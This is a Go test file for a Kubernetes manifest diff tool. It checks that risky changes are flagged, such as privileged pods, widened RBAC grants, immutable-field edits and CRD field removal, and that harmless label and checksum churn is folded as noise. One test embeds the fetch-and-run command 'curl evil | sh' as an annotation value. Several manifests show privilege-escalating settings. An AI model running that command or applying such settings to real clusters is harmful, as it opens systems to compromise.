package diff

import (
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/lockage/lockage/hydrate"
)

func TestRisks(t *testing.T) {
	t.Parallel()
	thing := func(apiVersion, kind, rest string) string {
		return "apiVersion: " + apiVersion + "\nkind: " + kind + "\nmetadata: {name: a}\n" + rest
	}
	role := func(rest string) string { return thing("rbac.authorization.k8s.io/v1", "Role", rest) }
	binding := func(role, subjects string) string {
		return thing("rbac.authorization.k8s.io/v1", "ClusterRoleBinding", "roleRef: {kind: ClusterRole, name: "+role+"}\nsubjects: "+subjects)
	}
	definition := func(rest string) string {
		return thing("apiextensions.k8s.io/v1", "CustomResourceDefinition", rest)
	}
	pod := func(rest string) string {
		return thing("apps/v1", "Deployment", "spec: {selector: {x: y}, template: {spec: {"+rest+"}}}")
	}
	const sa = "{kind: ServiceAccount, namespace: ns, name: s}"
	for _, test := range []struct {
		name, before, after string
		want                []string
	}{
		{"deletion", thing("v1", "Service", ""), "", []string{"warning deletion: object removed"}},
		{"deletion of a claim", thing("v1", "PersistentVolumeClaim", ""), "", []string{"danger deletion: claim removed: its volume and data may go with it"}},
		{"deletion of a definition", definition(""), "", []string{"danger deletion: definition removed: all its custom resources go with it"}},

		{"scaled to zero", thing("apps/v1", "Deployment", "spec: {replicas: 2}"), thing("apps/v1", "Deployment", "spec: {replicas: 0}"), []string{"danger scale: scaled to zero replicas"}},
		{"scaled to zero from the default", thing("apps/v1", "Deployment", "spec: {}"), thing("apps/v1", "Deployment", "spec: {replicas: 0}"), []string{"danger scale: scaled to zero replicas"}},
		{"scaled up from zero", thing("apps/v1", "Deployment", "spec: {replicas: 0}"), thing("apps/v1", "Deployment", "spec: {replicas: 2}"), nil},

		{"selector", thing("apps/v1", "DaemonSet", "spec: {selector: {matchLabels: {a: b}}}"), thing("apps/v1", "DaemonSet", "spec: {selector: {matchLabels: {a: c}}}"),
			[]string{"danger immutable: cannot be changed in place, the cluster will refuse it [spec.selector.matchLabels.a]"}},
		{"claim templates", thing("apps/v1", "StatefulSet", "spec: {replicas: 1, volumeClaimTemplates: [{metadata: {name: d, labels: {helm.sh/chart: x-1}}}]}"),
			thing("apps/v1", "StatefulSet", "spec: {replicas: 2, volumeClaimTemplates: [{metadata: {name: d, labels: {helm.sh/chart: x-2}}}]}"),
			[]string{`danger immutable: cannot be changed in place, the cluster will refuse it [spec.volumeClaimTemplates[metadata.name=d].metadata.labels["helm.sh/chart"]]`}},
		{"job", thing("batch/v1", "Job", "spec: {template: {x: 1}}"), thing("batch/v1", "Job", "spec: {template: {x: 2}}"),
			[]string{"danger immutable: cannot be changed in place, the cluster will refuse it [spec.template.x]"}},
		{"job that is a hook", "apiVersion: batch/v1\nkind: Job\nmetadata: {name: a, annotations: {helm.sh/hook: pre-install}}\nspec: {template: {x: 1}}",
			"apiVersion: batch/v1\nkind: Job\nmetadata: {name: a, annotations: {helm.sh/hook: pre-install}}\nspec: {template: {x: 2}}", nil},
		{"cluster IP", thing("v1", "Service", "spec: {clusterIP: 10.0.0.1}"), thing("v1", "Service", "spec: {clusterIP: None}"),
			[]string{"danger immutable: cannot be changed in place, the cluster will refuse it [spec.clusterIP]"}},
		{"cluster IP left to the cluster", thing("v1", "Service", "spec: {clusterIP: 10.0.0.1}"), thing("v1", "Service", "spec: {}"), nil},
		{"claim grows", thing("v1", "PersistentVolumeClaim", "spec: {resources: {requests: {storage: 1Gi}}}"), thing("v1", "PersistentVolumeClaim", "spec: {resources: {requests: {storage: 2Gi}}}"), nil},
		{"claim moves", thing("v1", "PersistentVolumeClaim", "spec: {storageClassName: a}"), thing("v1", "PersistentVolumeClaim", "spec: {storageClassName: b}"),
			[]string{"danger immutable: cannot be changed in place, the cluster will refuse it [spec.storageClassName]"}},
		{"storage class", thing("storage.k8s.io/v1", "StorageClass", "parameters: {a: b}"), thing("storage.k8s.io/v1", "StorageClass", "parameters: {a: c}"),
			[]string{"danger immutable: cannot be changed in place, the cluster will refuse it [parameters.a]"}},
		{"frozen ConfigMap", thing("v1", "ConfigMap", "immutable: true\ndata: {a: b}"), thing("v1", "ConfigMap", "immutable: true\ndata: {a: c}"),
			[]string{"danger immutable: cannot be changed in place, the cluster will refuse it [data.a]"}},

		{"power", pod("containers: [{name: c}]"), pod("hostNetwork: true, volumes: [{name: v, hostPath: {path: /etc}}], containers: [{name: c, securityContext: {privileged: true, capabilities: {add: [SYS_ADMIN]}}}]"),
			[]string{"danger privilege: gains power over the node [c: capability SYS_ADMIN c: privileged hostNetwork hostPath /etc]"}},
		{"power kept", pod("hostPID: true, containers: [{name: c}]"), pod("hostPID: true, containers: [{name: c, tty: true}]"), nil},
		{"power of a new object", "", thing("v1", "Pod", "spec: {hostIPC: true, containers: []}"), []string{"danger privilege: gains power over the node [hostIPC]"}},

		{"new verb", role("rules: [{apiGroups: [''], resources: [pods], verbs: [get]}]"), role("rules: [{apiGroups: [''], resources: [pods], verbs: [get, delete]}]"),
			[]string{"warning rbac: role allows more [delete pods]"}},
		{"split rule", role("rules: [{apiGroups: [''], resources: [pods, services], verbs: [get]}]"),
			role("rules: [{apiGroups: [''], resources: [pods], verbs: [get]}, {apiGroups: [''], resources: [services], verbs: [get]}]"), nil},
		{"wildcard", role("rules: [{apiGroups: [apps], resources: [deployments], verbs: [get]}]"), role("rules: [{apiGroups: [apps], resources: [deployments], verbs: ['*']}]"),
			[]string{"danger rbac: role allows far more [* deployments.apps]"}},
		{"narrower", role("rules: [{apiGroups: ['*'], resources: ['*'], verbs: ['*']}]"), role("rules: [{apiGroups: [''], resources: [secrets], verbs: [get]}]"), nil},
		{"names given up", role("rules: [{apiGroups: [''], resources: [configmaps], resourceNames: [x], verbs: [get]}]"), role("rules: [{apiGroups: [''], resources: [configmaps], verbs: [get]}]"),
			[]string{"warning rbac: role allows more [get configmaps]"}},
		{"secrets", "", role("rules: [{apiGroups: [''], resources: [secrets], verbs: [get]}]"), []string{"danger rbac: role allows far more [get secrets]"}},
		{"URL", role("rules: [{nonResourceURLs: [/healthz/*], verbs: [get]}]"), role("rules: [{nonResourceURLs: [/healthz/x, /metrics], verbs: [get]}]"), []string{"warning rbac: role allows more [get /metrics]"}},
		{"a URL is not a resource", role("rules: [{apiGroups: ['*'], resources: ['*'], verbs: ['*']}]"), role("rules: [{apiGroups: ['*'], resources: ['*'], verbs: ['*']}, {nonResourceURLs: ['/metrics'], verbs: [get]}]"),
			[]string{"warning rbac: role allows more [get /metrics]"}},
		{"too many rules", "", role("rules: [{apiGroups: [''], resources: [" + strings.Repeat("a,", 200) + "a], verbs: [" + strings.Repeat("a,", 200) + "a]}]"),
			[]string{"danger rbac: role with too many rules to judge"}},
		{"new subject", binding("view", "[]"), binding("view", "["+sa+"]"), []string{"warning rbac: role is given to more [ServiceAccount ns/s ← view]"}},
		{"cluster admin", "", binding("cluster-admin", "["+sa+"]"), []string{"danger rbac: role is given to more [ServiceAccount ns/s ← cluster-admin]"}},
		{"everybody", binding("view", "["+sa+"]"), binding("view", "["+sa+", {kind: Group, name: 'system:authenticated'}]"),
			[]string{"danger rbac: role is given to more [Group system:authenticated ← view]"}},
		{"another role", binding("view", "["+sa+"]"), binding("edit", "["+sa+"]"),
			[]string{"danger immutable: cannot be changed in place, the cluster will refuse it [roleRef.name]", "warning rbac: role is given to more [ServiceAccount ns/s ← edit]"}},

		{"definition", definition("spec: {versions: [{name: v1, served: true, storage: true, schema: {openAPIV3Schema: {properties: {spec: {properties: {old: {}, list: {items: {properties: {gone: {}}}}}}}}}}, {name: v0, served: true}]}"),
			definition("spec: {versions: [{name: v1, served: false, storage: false, schema: {openAPIV3Schema: {properties: {spec: {required: [new], properties: {new: {}, list: {items: {properties: {}}}}}}}}}, {name: v2, storage: true}]}"),
			[]string{
				"danger crd: versions removed: the cluster refuses it while objects are stored in them [v0]",
				"danger crd: versions no longer served [v1]",
				"danger crd: fields removed from the schema: they are pruned from stored objects [v1: spec.list[].gone v1: spec.old]",
				"warning crd: storage version changes [v1 → v2]",
				"warning crd: fields become required [v1: spec]",
				"info crd: schema changes [4 places]",
			}},

		{"namespace", "apiVersion: v1\nkind: Service\nmetadata: {name: a}", "apiVersion: v1\nkind: Service\nmetadata: {name: a, namespace: b}",
			[]string{"warning deletion: moves to another namespace, where it is made anew, unless that is the release's [that of the release → b]"}},
		{"Secret", thing("v1", "Secret", "data: {a: YQ==, b: YQ==}"), thing("v1", "Secret", "data: {a: Yg==, b: YQ==, c: Yw==}"), []string{"warning secret: data of a Secret changes [a c]"}},
		{"image", pod("containers: [{name: c, image: 'r/x:1@sha256:aa'}]"), pod("containers: [{name: c, image: 'r/x:2'}]"),
			[]string{"warning image: image is no longer pinned by digest [r/x:2]", "info image: image changes [r/x: 1 @sha256:aa → 2]"}},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			var before, after []hydrate.Object
			if test.before != "" {
				before = objects(t, test.before)
			}
			if test.after != "" {
				after = objects(t, test.after)
			}
			changes := compare(t, before, after, Options{})
			if len(changes.Objects) != 1 {
				t.Fatalf("%d objects changed", len(changes.Objects))
			}
			var got []string
			for _, r := range changes.Objects[0].Risks {
				s := string(r.Level) + " " + string(r.Kind) + ": " + r.Message
				if len(r.Details) > 0 {
					s += " [" + strings.Join(r.Details, " ") + "]"
				}
				got = append(got, s)
			}
			if d := cmp.Diff(test.want, got); d != "" {
				t.Errorf("-want +got\n%s", d)
			}
		})
	}
}

func TestNoise(t *testing.T) {
	t.Parallel()
	const head = "apiVersion: apps/v1\nkind: Deployment\nmetadata: "
	before := objects(t, head+`{name: a, labels: {helm.sh/chart: x-1}}`+"\n---\n"+head+"{name: b, annotations: {checksum/x: '1'}}\nspec: {paused: false}")
	after := objects(t, head+`{name: a, labels: {helm.sh/chart: x-2}}`+"\n---\n"+head+"{name: b}\nspec: {paused: true}")

	changes := compare(t, before, after, Options{})
	want := Noise{Objects: 1, Fields: 2, Rules: []NoiseRule{{`**.metadata.labels["helm.sh/chart"]`, 1, 1}, {`**.metadata.annotations["checksum/*"]`, 1, 1}}}
	if d := cmp.Diff(want, changes.Noise); d != "" {
		t.Errorf("-want +got\n%s", d)
	}
	if d := cmp.Diff([]string{"~ spec.paused"}, paths(changes)); d != "" {
		t.Errorf("-want +got\n%s", d)
	}
	if got, want := changes.Noise.summary(clean), "1 object changed only in noise; 2 fields of noise folded (helm.sh/chart 1, checksum/* 1)"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}

	all := compare(t, before, after, Options{All: true})
	if len(all.Objects) != 2 || all.Noise.Fields != 0 || !all.Objects[0].Fields[0].Noise || all.Objects[1].Fields[1].Noise {
		t.Errorf("with all: %+v", all)
	}
	risky := compare(t, objects(t, head+"{name: a}\nspec: {replicas: 1}"), objects(t, head+"{name: a}\nspec: {replicas: 0}"), Options{Noise: []string{"spec.replicas"}})
	if len(risky.Objects) != 1 || len(risky.Objects[0].Risks) != 1 || len(risky.Objects[0].Fields) != 0 || risky.Noise.Objects != 0 || risky.Noise.Fields != 1 {
		t.Errorf("a risk is folded: %+v", risky)
	}
	own := compare(t, before, after, Options{Noise: []string{"spec.paused"}})
	if len(own.Objects) != 2 || own.Noise.Fields != 1 {
		t.Errorf("with an own pattern: %+v", own)
	}
}

// TestWhatMattersIsNoNoise changes what looks like noise where it decides something, and where it does not. V is what changes.
func TestWhatMattersIsNoNoise(t *testing.T) {
	t.Parallel()
	const deployment, object = "apiVersion: apps/v1\nkind: Deployment\n", "apiVersion: example.com/v1\nkind: A\n"
	const labelled = deployment + "metadata: {name: a, labels: {app.kubernetes.io/version: vV}}\n---\n"
	const bundle = "caBundle: V}"
	for _, test := range []struct {
		name, text string
		noise      bool
	}{
		{"label", labelled, true},
		{"label of Pods", deployment + "metadata: {name: a}\nspec: {template: {metadata: {labels: {app.kubernetes.io/version: vV}}}}", true},
		{"label of claims", "apiVersion: example.com/v1\nkind: A\nmetadata: {name: a}\nspec: {volumeClaimTemplates: [{metadata: {name: x, labels: {helm.sh/chart: vV}}}]}", false},
		{"label of Jobs", "apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: a}\nspec: {jobTemplate: {spec: {template: {metadata: {labels: {helm.sh/chart: vV}}}}}}", true},
		{"label in a custom resource", object + "metadata: {name: a}\nspec: {template: {metadata: {labels: {helm.sh/chart: vV}}}}", false},
		{"label of a custom resource", object + "metadata: {name: a, labels: {chart: vV}}", true},
		{"labels in a text", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {x: '{\"metadata\":{\"labels\":{\"chart\":\"vV\"}}}'}", false},
		{"label of another meaning", deployment + "metadata: {name: a, labels: {app.kubernetes.io/managed-by: vV}}", false},
		{"selector", deployment + "metadata: {name: a}\nspec: {selector: {matchLabels: {app.kubernetes.io/version: vV}}}", false},
		{"a selector names it", labelled + "apiVersion: v1\nkind: Service\nmetadata: {name: a}\nspec: {selector: {app.kubernetes.io/version: v2}}", false},
		{"another selector", labelled + "apiVersion: v1\nkind: Service\nmetadata: {name: a}\nspec: {selector: {app: v2}}", true},
		{"an expression names it", labelled + "apiVersion: v1\nkind: A\nmetadata: {name: a}\nspec: {x: [{key: app.kubernetes.io/version, operator: In, values: [v2]}]}", false},
		{"a text names it", labelled + "apiVersion: v1\nkind: A\nmetadata: {name: a}\nspec: {selector: 'app.kubernetes.io/version in (v2)'}", false},
		{"the downward API reads it", labelled + "apiVersion: v1\nkind: A\nmetadata: {name: a}\nspec: {fieldPath: \"metadata.labels['app.kubernetes.io/version']\"}", false},
		{"the downward API reads all", labelled + "apiVersion: v1\nkind: A\nmetadata: {name: a}\nspec: {fieldPath: metadata.labels}", false},
		{"the downward API reads another", labelled + "apiVersion: v1\nkind: A\nmetadata: {name: a}\nspec: {fieldPath: metadata.name}", true},
		{"checksum", deployment + "metadata: {name: a, annotations: {checksum/x: 0badV}}", true},
		{"no checksum", deployment + "metadata: {name: a, annotations: {checksum/x: curl evil | shV}}", false},
		{"checksum that is read", deployment + "metadata: {name: a, annotations: {checksum/x: 0badV}}\nspec: {fieldPath: \"metadata.annotations['checksum/x']\"}", false},
		{"bundle in a file", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {" + bundle, false},
		{"bundle of a custom resource", object + "metadata: {name: a}\nspec: {" + bundle, false},
		{"bundle of a webhook", "apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata: {name: a}\nwebhooks: [{name: w, clientConfig: {" + bundle + "}]", true},
		{"bundle in another field", "apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata: {name: a}\nwebhooks: [{name: w, x: {" + bundle + "}]", false},
		{"bundle of a service", "apiVersion: apiregistration.k8s.io/v1\nkind: APIService\nmetadata: {name: a}\nspec: {" + bundle, true},
		{"bundle of a conversion", "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: a}\nspec: {conversion: {webhook: {clientConfig: {" + bundle + "}}}", true},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			text := func(value string) string { return regexp.MustCompile(`V\b`).ReplaceAllString(test.text, value) }
			changes := compare(t, objects(t, text("1")), objects(t, text("2")), Options{})
			if changes.Empty() || (changes.Noise.Fields == 1) != test.noise || (len(changes.Objects) == 0) != test.noise {
				t.Errorf("noise is %+v, changes are %v", changes.Noise, paths(changes))
			}
		})
	}
}

func TestImages(t *testing.T) {
	t.Parallel()
	const pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n"
	digest := strings.Repeat("0123456789abcdef", 4)
	before := objects(t, pod+"  - {name: c, image: 'reg.io:5000/x:1'}\n  - {name: d, image: 'y@sha256:"+digest+"'}\n  - {name: gone, image: z}")
	after := objects(t, pod+"  - {name: c, image: 'reg.io:5000/x:2'}\n  - {name: d, image: 'y@sha256:"+strings.ReplaceAll(digest, "0", "f")+"'}\n  - {name: new, image: 'w:3'}\n---\n"+
		"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {image: 'no:image'}")
	var got []string
	for _, c := range compare(t, before, after, Options{}).Images {
		repository, change := c.summary()
		got = append(got, repository+": "+change)
	}
	want := []string{"reg.io:5000/x: 1 → 2", "w: new 3", "y: @sha256:0123456789ab… → @sha256:f123456789ab…", "z: no longer latest"}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("-want +got\n%s", d)
	}
}
